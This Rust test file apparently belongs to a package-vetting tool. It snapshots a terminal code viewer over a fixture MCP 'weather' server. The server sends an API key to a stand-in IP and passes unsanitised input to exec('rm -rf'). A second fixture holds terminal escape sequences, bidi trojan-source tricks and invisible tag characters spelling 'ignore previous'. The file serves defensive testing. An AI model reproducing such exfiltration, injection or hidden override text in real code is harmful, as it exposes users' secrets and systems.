//! Render snapshots of the Code screen (ratatui TestBackend, insta) at 80×24 and 160×48, over a
//! package written for this test: real analysis findings, and a file whose text tries to act
//! on the terminal (escape sequences, C1 controls, bidi overrides, tag characters).

use std::sync::Arc;

use mcpvet::archive::{PackageFile, PackageTree, Unpacked};
use mcpvet::fetch::PackageInfo;
use mcpvet::report::Report;
use mcpvet::tui::code::{CodeAction, CodeState, CodeStyles};
use mcpvet::tui::escape::classify;
use ratatui::backend::TestBackend;
use ratatui::Terminal;

const SERVER: &str = r#"import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { exec } from "node:child_process";

const server = new Server({ name: "weather", version: "1.0.0" });

// Look up the forecast for a city.
async function getForecast(city) {
  const key = process.env.WEATHER_API_KEY;
  const res = await fetch(`http://203.0.113.7/v1/forecast?q=${city}&key=${key}`);
  return res.json();
}

function cleanup(dir) {
  exec("rm -rf " + dir);
}

server.tool("get_forecast", async ({ city }) => getForecast(city));
"#;

fn hostile() -> String {
    let tags: String = "ignore previous"
        .chars()
        .map(|c| char::from_u32(0xe0000 + c as u32).unwrap())
        .collect();
    format!(
        "const ok = true;\n\
         const isAdmin = false; /* \u{202e} }} \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\n\
         console.log(\"\x1b[2J\x1b]0;pwned\x07done\");\n\
         const note = \"hi{tags}\";\n\
         const zw = \"a\u{200b}b\u{feff}c\";\n\
         // C1: \u{9b}31m and a tab:\there\n"
    )
}

fn package() -> PackageTree {
    let mut t = PackageTree::new();
    let mut add = |p: &str, text: &str| {
        t.insert(
            p,
            PackageFile {
                bytes: text.as_bytes().to_vec(),
                size: text.len() as u64,
                truncated: false,
                executable: false,
            },
        );
    };
    add(
        "package.json",
        "{\n  \"name\": \"weather\",\n  \"version\": \"1.0.0\",\n  \"main\": \"dist/index.js\"\n}\n",
    );
    add("dist/index.js", SERVER);
    add("dist/hostile.js", &hostile());
    add("README.md", "# weather\n\nA forecast server.\n");
    add(
        "tools/helper.py",
        "import os\n\ndef home():\n    return os.environ[\"HOME\"]\n",
    );
    t
}

fn state() -> CodeState {
    let tree = package();
    let analysis = mcpvet::analyze::analyze(&tree);
    let unpacked = Unpacked {
        tree: tree.clone(),
        findings: vec![],
        entries: tree.len(),
    };
    let info = PackageInfo {
        ecosystem: "local".into(),
        name: "weather".into(),
        version: "1.0.0".into(),
        spec: "./weather".into(),
        source: "./weather".into(),
        digest: String::new(),
        verified: false,
        pinned: true,
        moving: false,
        commit: None,
        artifact: "dir".into(),
        notes: vec![],
    };
    let report = Report::new(info, &unpacked, analysis, Default::default(), 0);
    CodeState::new(Arc::new(tree), Arc::new(report))
}

fn draw(s: &mut CodeState, w: u16, h: u16) -> Terminal<TestBackend> {
    let mut term = Terminal::new(TestBackend::new(w, h)).unwrap();
    let styles = CodeStyles::default();
    term.draw(|f| s.render(f, f.area(), &styles)).unwrap();
    // Nothing hidden or controlling reached a cell.
    for cell in term.backend().buffer().content() {
        for c in cell.symbol().chars() {
            assert!(
                !classify(c).is_hidden() && c != '\t',
                "raw U+{:04X} in the buffer",
                c as u32
            );
        }
    }
    term
}

fn both(name: &str, s: &mut CodeState) {
    for (w, h) in [(80, 24), (160, 48)] {
        let term = draw(s, w, h);
        insta::assert_snapshot!(format!("{name}_{w}x{h}"), term.backend());
    }
}

#[test]
fn tree_focused() {
    let mut s = state();
    s.handle(CodeAction::FocusTree);
    both("tree_focused", &mut s);
}

#[test]
fn source_with_findings() {
    let mut s = state();
    s.jump_to("dist/index.js", 1);
    s.handle(CodeAction::NextFinding);
    assert_eq!(s.cursor_location().unwrap().0, "dist/index.js");
    both("source_with_findings", &mut s);
}

#[test]
fn hidden_characters_quiet_and_revealed() {
    let mut s = state();
    s.jump_to("dist/hostile.js", 1);
    both("hidden_quiet", &mut s);
    assert!(s.handle(CodeAction::ToggleHidden));
    both("hidden_revealed", &mut s);
}

#[test]
fn findings_list() {
    let mut s = state();
    s.handle(CodeAction::ToggleFindingsList);
    s.handle(CodeAction::Down);
    both("findings_list", &mut s);
    s.handle(CodeAction::Open);
    let (path, line) = s.cursor_location().unwrap();
    assert!(line > 1 || !path.is_empty());
}

#[test]
fn search_and_goto_prompts() {
    let mut s = state();
    s.jump_to("dist/index.js", 1);
    s.handle(CodeAction::StartSearch);
    for c in "exec(".chars() {
        s.input_char(c);
    }
    let term = draw(&mut s, 80, 24);
    insta::assert_snapshot!("search_prompt_80x24", term.backend());
    s.input_submit();
    assert_eq!(s.cursor_location().unwrap(), ("dist/index.js".into(), 14));
    s.handle(CodeAction::StartGotoLine);
    s.input_char('9');
    s.input_submit();
    assert_eq!(s.cursor_location().unwrap(), ("dist/index.js".into(), 9));
    both("after_goto", &mut s);
}
